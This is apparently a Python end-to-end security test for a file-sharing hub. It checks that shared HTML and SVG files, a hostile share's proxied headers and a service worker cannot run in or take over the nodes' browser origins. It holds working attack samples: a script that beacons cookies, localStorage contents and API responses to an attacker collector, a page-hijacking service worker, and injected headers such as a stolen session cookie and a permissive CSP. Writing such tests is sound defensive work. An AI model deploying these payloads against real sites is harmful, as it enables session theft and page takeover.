"""Shared files never run as active content in a node's origin (issue 11, class 5;
docs/security.md "User content").

A real hub with a real share below it, whose directory holds an ``.html`` and an
``.svg`` whose script reports to the attacker's site (``PageServer``) whatever it can
reach in the origin it runs in: that it ran at all, a marker the origin's pages keep
in ``localStorage``, the origin's cookies, the node's API, and a service worker. A
hostile share (``tests.hostile.fake_share``) answers the hub's proxied requests with
headers of its own: ``Set-Cookie``, ``Service-Worker-Allowed``, a permissive
``Content-Security-Policy``, ``Refresh``, a redirect, an authentication prompt.
Chromium opens every such file from the share's and the hub's origins, top level and
framed by the attacker's page; then nothing may have run, no cookie may be set, no
service worker may control the nodes' pages, and the web interface still shows.
"""

from __future__ import annotations

import contextlib
import hashlib
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from playwright.sync_api import BrowserContext, Page
from playwright.sync_api import Error as PlaywrightError

from tests.e2e.procs import Node, Procs
from tests.hostile.browser import PageServer, chromium
from tests.hostile.fake_share import FakeRoute, FakeShareScript, start_fake_share
from tests.hostile.helpers import http_get

#: What the attacker's script does wherever it runs: report to the attacker's site
#: (``{collector}``) what the origin lets it reach. Paths are relative, so the same file
#: reaches its own node's API and service worker script (``../api/nodeinfo`` and
#: ``sw.js`` from ``/ID/download/evil.html``); ``{scope}`` is the scope it asks for.
EVIL_SCRIPT = """
(async () => {{
  const report = (what, value) => {{
    new Image().src = "{collector}/" + what + "?v=" + encodeURIComponent(value) +
      "&at=" + encodeURIComponent(location.href);
  }};
  report("ran", location.origin);
  try {{ report("marker", localStorage.getItem("kb-marker")); }} catch (e) {{}}
  report("cookie", document.cookie);
  try {{
    const r = await fetch("../api/nodeinfo");
    report("api", (await r.text()).slice(0, 64));
  }} catch (e) {{}}
  try {{
    await navigator.serviceWorker.register("sw.js", {{scope: "{scope}"}});
    report("sw", "registered");
  }} catch (e) {{}}
}})();
"""
#: A service worker that replaces every page in its scope.
SW_SCRIPT = b"""
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => e.respondWith(new Response(
  "<h1>PWNED by a share</h1>", {headers: {"Content-Type": "text/html"}})));
"""


def _html(script: str) -> bytes:
    return f"<!doctype html><html><body><script>{script}</script></body></html>".encode()


def _svg(script: str) -> bytes:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        f"<script><![CDATA[{script}]]></script></svg>"
    ).encode()


@dataclass
class Web:
    """The running nodes and the attacker's site."""

    hub: Node
    share: Node
    fake_id: str
    site: PageServer
    html_sha1: str

    def user_content_urls(self) -> list[str]:
        """Every URL serving an active file, from the share's and the hub's origins."""
        sid = self.share.node_id
        return [
            f"{self.share.url}/{sid}/download/evil.html",
            f"{self.share.url}/{sid}/download/evil.svg",
            f"{self.share.url}/{sid}/sha1/{self.html_sha1}",
            f"{self.hub.url}/{sid}/download/evil.html",
            f"{self.hub.url}/{sid}/download/evil.svg",
            f"{self.hub.url}/sha1/{self.html_sha1}",
            f"{self.hub.url}/{self.fake_id}/download/evil.html",
            f"{self.hub.url}/{self.fake_id}/download/story.txt",
            f"{self.hub.url}/{self.fake_id}/download/moved",
            f"{self.share.url}/{sid}/download/story.txt",
        ]


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Web]:
    work = tmp_path_factory.mktemp("active-content")
    procs = Procs(work)
    try:
        with PageServer() as site:
            collector = site.url("").rstrip("/")
            hub = procs.node("kbucket-hub", work / "hub", name="content-hub")
            share_dir = work / "share"
            share_dir.mkdir()
            script = EVIL_SCRIPT.format(collector=collector, scope="./")
            (share_dir / "evil.html").write_bytes(_html(script))
            (share_dir / "evil.svg").write_bytes(_svg(script))
            (share_dir / "sw.js").write_bytes(SW_SCRIPT)
            (share_dir / "story.txt").write_bytes(_html("document.title = 'sniffed'"))
            share = procs.node("kbucket-host", share_dir, name="content-share", parent=hub)
            # A hostile share whose answers carry headers of its own; it grants its
            # service worker the whole origin.
            fake_script = EVIL_SCRIPT.format(collector=collector, scope="/")
            hostile = (
                ("Set-Cookie", "kb-session=stolen; Path=/"),
                ("Service-Worker-Allowed", "/"),
                ("Content-Security-Policy", "script-src * 'unsafe-inline'"),
                ("Refresh", f"1; url={collector}/refreshed"),
                ("WWW-Authenticate", 'Basic realm="kbucket hub login"'),
                ("Clear-Site-Data", '"*"'),
                ("X-Frame-Options", "ALLOWALL"),
            )
            fake = FakeShareScript(
                hub_url=hub.url,
                seed=501,
                routes={
                    "download/evil.html": FakeRoute(
                        headers=(("Content-Type", "text/html"), *hostile),
                        body=_html(fake_script),
                    ),
                    "download/story.txt": FakeRoute(
                        headers=(("Content-Type", "text/html, text/plain"), *hostile),
                        body=_html(fake_script),
                    ),
                    "download/sw.js": FakeRoute(
                        headers=(("Content-Type", "text/javascript"), *hostile), body=SW_SCRIPT
                    ),
                    "download/moved": FakeRoute(
                        status=302, headers=(("Location", f"{collector}/redirected"), *hostile)
                    ),
                },
            )
            fake_id = start_fake_share(procs, fake, work / "fake")
            html_sha1 = hashlib.sha1((share_dir / "evil.html").read_bytes()).hexdigest()
            yield Web(hub, share, fake_id, site, html_sha1)
    finally:
        procs.close()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrowserContext]:
    with chromium(tmp_path_factory.mktemp("chromium-profile")) as context:
        yield context


def _open(page: Page, url: str) -> None:
    """Navigate to ``url``; a download instead of a page is fine."""
    with contextlib.suppress(PlaywrightError):
        page.goto(url, wait_until="load")


def _set_marker(browser: BrowserContext, node: Node) -> None:
    page = browser.new_page()
    try:
        page.goto(f"{node.url}/")
        page.evaluate("m => localStorage.setItem('kb-marker', m)", f"marker-of-{node.port}")
    finally:
        page.close()


def test_shared_files_do_not_run_in_the_nodes_origins(web: Web, browser: BrowserContext) -> None:
    for node in (web.hub, web.share):
        _set_marker(browser, node)
    page = browser.new_page()
    try:
        for url in web.user_content_urls():
            _open(page, url)
        # Framed by the attacker's page as well, next to the nodes' own web pages.
        pages = [f"{web.hub.url}/", f"{web.share.url}/"]
        framed = [*web.user_content_urls(), *pages]
        frames = "".join(f'<iframe src="{url}"></iframe>' for url in framed)
        web.site.files["/frames.html"] = ("text/html", f"<!doctype html>{frames}".encode())
        _open(page, web.site.url("/frames.html"))
        page.wait_for_timeout(2000)  # time for any script that ran to report
        # No node page may be framed (click-jacking): Chromium shows its error page.
        iframes = page.locator("iframe")
        for index, url in enumerate(framed):
            if url in pages:
                handle = iframes.nth(index).element_handle()
                frame = handle.content_frame() if handle is not None else None
                assert frame is not None, url
                assert frame.url.startswith("chrome-error://"), (url, frame.url)
    finally:
        page.close()
    assert web.site.seen("/ran") == []
    assert web.site.seen("/marker") == []
    assert web.site.seen("/api") == []
    assert web.site.seen("/refreshed") == []
    assert web.site.seen("/redirected") == []
    assert browser.cookies([web.hub.url, web.share.url]) == []
    _assert_no_service_worker(browser, web)


def test_proxied_responses_carry_only_allowed_headers(web: Web) -> None:
    for rest in ("download/evil.html", "download/story.txt", "download/sw.js", "download/moved"):
        request = urllib.request.Request(f"{web.hub.url}/{web.fake_id}/{rest}")
        try:
            with urllib.request.urlopen(request, timeout=15) as response:
                headers = response.headers
        except urllib.error.HTTPError as exc:
            headers = exc.headers
        names = {name.lower() for name in headers}
        for banned in (
            "set-cookie",
            "service-worker-allowed",
            "refresh",
            "location",
            "www-authenticate",
            "clear-site-data",
            "x-frame-options",
        ):
            assert banned not in names, (rest, banned, dict(headers))
        csp = headers.get_all("Content-Security-Policy") or []
        assert len(csp) == 1, (rest, csp)
        assert csp[0].startswith("sandbox; default-src 'none'"), (rest, csp)
        assert headers["X-Content-Type-Options"] == "nosniff"
    # A malformed type is not passed on: the bytes are served as bytes, saved not shown.
    with urllib.request.urlopen(f"{web.hub.url}/{web.fake_id}/download/story.txt") as r:
        assert r.headers["Content-Type"] == "application/octet-stream"
        assert r.headers["Content-Disposition"] == "attachment"
    # The share's own answers: active types saved, text shown as text, never sniffed.
    sid = web.share.node_id
    for base in (web.share.url, web.hub.url):
        for name, disposition in (("evil.html", "attachment"), ("evil.svg", "attachment")):
            with urllib.request.urlopen(f"{base}/{sid}/download/{name}", timeout=15) as r:
                assert r.headers["Content-Disposition"] == disposition, (base, name)
                assert r.headers["Content-Security-Policy"].startswith("sandbox;")
        with urllib.request.urlopen(f"{base}/{sid}/download/story.txt", timeout=15) as r:
            assert r.headers["Content-Type"].startswith("text/plain")
            assert r.headers["Content-Disposition"] is None
            assert r.headers["X-Content-Type-Options"] == "nosniff"


def test_no_service_worker_can_be_fed_to_a_node(web: Web, browser: BrowserContext) -> None:
    # Script in a node's own pages (as an injection into them would be) tries to register
    # a file the node serves as a service worker: the web page, whose CSP allows no
    # worker, and a JSON page, which has no such CSP.
    attempts = [
        (f"{web.hub.url}/", f"/{web.fake_id}/download/sw.js", "/"),
        (f"{web.hub.url}/", f"/{web.fake_id}/download/sw.js", f"/{web.fake_id}/download/"),
        (f"{web.hub.url}/no-such-page", f"/{web.fake_id}/download/sw.js", "/"),
        (
            f"{web.hub.url}/no-such-page",
            f"/{web.fake_id}/download/sw.js",
            f"/{web.fake_id}/download/",
        ),
        (f"{web.share.url}/no-such-page", f"/{web.share.node_id}/download/sw.js", None),
        (f"{web.hub.url}/no-such-page", f"/{web.share.node_id}/download/sw.js", None),
    ]
    page = browser.new_page()
    try:
        for where, script, scope in attempts:
            _open(page, where)
            outcome = page.evaluate(
                """([script, scope]) => navigator.serviceWorker
                    .register(script, scope === null ? undefined : {scope})
                    .then(() => "registered", (e) => "refused: " + e)""",
                [script, scope],
            )
            assert outcome.startswith("refused"), (where, script, scope, outcome)
    finally:
        page.close()
    _assert_no_service_worker(browser, web)


def _assert_no_service_worker(browser: BrowserContext, web: Web) -> None:
    """No service worker is registered over either node, and both web pages show."""
    page = browser.new_page()
    try:
        for node in (web.hub, web.share):
            page.goto(f"{node.url}/")
            count = page.evaluate(
                "() => navigator.serviceWorker.getRegistrations().then(r => r.length)"
            )
            assert count == 0, node.url
            assert page.locator("body").inner_text().find("PWNED") < 0
            # The node's own page still shows the node (drawn by the server).
            status, body = http_get(f"{node.url}/")
            assert status == 200
            assert node.node_id.encode() in body
    finally:
        page.close()
